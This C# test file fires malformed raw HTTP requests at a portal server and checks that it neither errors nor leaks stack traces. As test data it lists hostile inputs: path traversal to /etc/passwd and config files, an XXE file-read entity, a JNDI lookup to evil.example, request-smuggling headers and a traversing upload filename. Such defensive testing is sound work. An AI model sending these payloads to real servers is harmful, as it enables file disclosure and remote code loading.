using System.Globalization;
using System.Text;
using ChildProtection.Tests.Support;

namespace ChildProtection.Tests.Hostile;

/// <summary>Requests malformed as bytes, to the real server: it answers below 500 or hangs up, and goes on serving.</summary>
public sealed class WireTests(ListeningPortal portal) : IClassFixture<ListeningPortal>
{
    private static readonly string[] Targets =
    [
        "/%FF%FE", "/%00", "/a%00b", "/%C0%AF%C0%AF", "/%E2%28%A1", "/%", "/%zz", "/%u0041", "/../../etc/passwd", "/..%2f..%2fetc%2fpasswd", "/..%5c..%5cweb.config", "/css/..%2f..%2fappsettings.json",
        "/css/%2e%2e/%2e%2e/appsettings.json", "//evil.example/", "/\\evil.example", "/?x=%", "/?x=%FF", "/?%00=%00", "/?x[]=1&x[0]=2", "/?handler=%00", "/?culture=xx&ui-culture=%00", "*", "http://evil.example/", "/" + new string('a', 9_000),
        "/?" + new string('b', 7_000), "/" + string.Concat(Enumerable.Repeat("a/", 1_000)), "/?" + string.Join('&', Enumerable.Range(0, 1_500).Select(at => $"a{at}=1")), "/appsettings.json", "/web.config", "/.git/config", "/portal.db", "/access-matrix.csv",
    ];

    private static readonly string[] Headers =
    [
        "Cookie: __Host-session=x", "Cookie: __Host-session=chunks-99999999", "Cookie: __Host-session=chunks-3; __Host-sessionC1=a; __Host-sessionC2=%00", "Cookie: __Host-jeton=" + "A", "Cookie: __Host-etape-x=%00", "Cookie: =;;;=;a",
        "Cookie: __Host-session=" + "CfDJ8" + "AAAA", "Accept-Language: \u00ff\u00fe, x-" , "Accept-Language: " + "fr;q=9999", "Accept-Encoding: br;q=NaN, *;q=-1", "Accept: */*;q=x", "Range: bytes=9-1", "Range: bytes=0-0,0-0,0-0", "If-Modified-Since: never",
        "If-None-Match: \"", "X-Forwarded-For: ' OR 1=1", "X-Forwarded-Host: evil.example", "X-Forwarded-Proto: javascript", "X-HTTP-Method-Override: DELETE", "Content-Type: \u0001", "Content-Type: application/x-www-form-urlencoded; charset=utf-7",
        "Expect: 100-continue", "Upgrade: websocket", "Transfer-Encoding: gzip", "Content-Length: -1", "Content-Length: 99999999999999999999", "TE: trailers", "Origin: null", "Origin: https://evil.example", "User-Agent: ${jndi:ldap://evil.example}",
        "A\u0000B: x", "NoColon", " folded: x", "X-Long: " + "h", "Referer: javascript:1", "Authorization: Basic %%%", "Sec-Fetch-Site: cross-site", "DNT: \u202e",
    ];

    private static readonly (string Type, string Body)[] Bodies =
    [
        ("application/json", "{\"a\":"), ("text/xml", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"), ("application/x-www-form-urlencoded", "a=%&b=%FF&=%00&%=%"), ("application/x-www-form-urlencoded", "&&&===&&&"),
        ("application/x-www-form-urlencoded; charset=utf-7", "a=+ADw-script+AD4-"), ("application/x-www-form-urlencoded; charset=nothing", "a=b"), ("multipart/form-data", "--x\r\n"), ("multipart/form-data; boundary=", "--\r\n"),
        ("multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nno end"), ("multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"a\"; filename=\"../../x.cshtml\"\r\n\r\nx\r\n--x--\r\n"),
        ("multipart/form-data; boundary=" + "bbbb", "--bbbb\r\n\r\n--bbbb--"), ("", "a=b"), ("application/octet-stream", "\0\u0001\u0002"), ("application/x-www-form-urlencoded", new string('a', 600 * 1024)), ("application/x-www-form-urlencoded", string.Join('&', Enumerable.Range(0, 2_000).Select(at => $"a{at}=1"))),
        ("application/x-www-form-urlencoded", new string('k', 5_000) + "=1"), ("application/x-www-form-urlencoded", "a" + string.Concat(Enumerable.Repeat("[a]", 300)) + "=1"),
    ];

    [Fact]
    public async Task Malformed_addresses_break_nothing() =>
        await AllAsync(from target in Targets from method in new[] { "GET", "POST", "HEAD", "PAGE" } select Request(method, target));

    [Fact]
    public async Task Malformed_headers_break_nothing() => await AllAsync(
        from address in (await AddressesAsync()).Take(12)
        from header in Headers.Append($"Cookie: __Host-session={new string('x', 12_000)}").Append($"X-Big: {new string('x', 40_000)}")
            .Append(string.Join("\r\n", Enumerable.Range(0, 150).Select(at => string.Create(CultureInfo.InvariantCulture, $"X-{at}: 1"))))
        select Request("GET", address, header));

    [Fact]
    public async Task Malformed_bodies_break_nothing() => await AllAsync(
        from address in await AddressesAsync()
        from body in Bodies
        select Request("POST", address, body.Type.Length > 0 ? $"Content-Type: {body.Type}" : "X-No-Type: 1", body.Body));

    [Fact]
    public async Task Malformed_requests_break_nothing() => await AllAsync(
    [
        "\0\0\0\0\r\n\r\n", "GET\r\n\r\n", "GET / HTTP/1.1\r\n\r\n", "G\0T / HTTP/1.1\r\nHost: localhost\r\n\r\n", "GET / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n", "GET / HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\n\r\n",
        "get / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", "TRACE / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", "OPTIONS * HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\nGET /x", "POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nZZ\r\n",
        "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100\r\nConnection: close\r\n\r\nshort", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "GET / HTTP/1.0\r\n\r\n", "PUT / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
        "DELETE / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", "GET /\r\nX / HTTP/1.1\r\nHost: localhost\r\n\r\n", "GET / HTTP/1.1\nHost: localhost\nConnection: close\n\n", "GET / HTTP/1.1\r\nHost: localhost:99999\r\nConnection: close\r\n\r\n", "GET / HTTP/1.1\r\nHost: [::1\r\nConnection: close\r\n\r\n",
    ]);

    private async Task<List<string>> AddressesAsync() => [.. (await PortalEndpoint.AllAsync(portal.Services)).Select(endpoint => endpoint.AddressWith(UnknownValues.Of)).Distinct()];

    private static string Request(string method, string target, string? header = null, string? body = null) =>
        $"{method} {target} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n{(header is null ? "" : header + "\r\n")}"
        + (body is null ? "\r\n" : $"Content-Length: {Encoding.UTF8.GetByteCount(body)}\r\n\r\n{body}");

    private async Task AllAsync(IEnumerable<string> requests)
    {
        var faults = new List<string>();
        foreach (var request in requests)
        {
            var answer = await portal.SayAsync(Encoding.UTF8.GetBytes(request));
            var status = answer.StartsWith("HTTP/1.", StringComparison.Ordinal) ? int.Parse(answer.Split(' ', 3)[1], CultureInfo.InvariantCulture) : 0; // 0: it hung up
            if (status >= 500) faults.Add($"{status}: {request[..Math.Min(200, request.Length)]}");
            if (answer.Contains("stack trace", StringComparison.OrdinalIgnoreCase) || answer.Contains("   at ", StringComparison.Ordinal)) faults.Add($"says where it broke: {request[..Math.Min(200, request.Length)]}");
        }
        Assert.True(faults.Count == 0, string.Join('\n', faults.Take(30)));
        Assert.True(portal.Faults.All.Count == 0, string.Join('\n', portal.Faults.All.Take(5)));
        Assert.StartsWith("HTTP/1.1 200", await portal.SayAsync(Encoding.ASCII.GetBytes(Request("GET", "/healthz"))), StringComparison.Ordinal);
    }
}
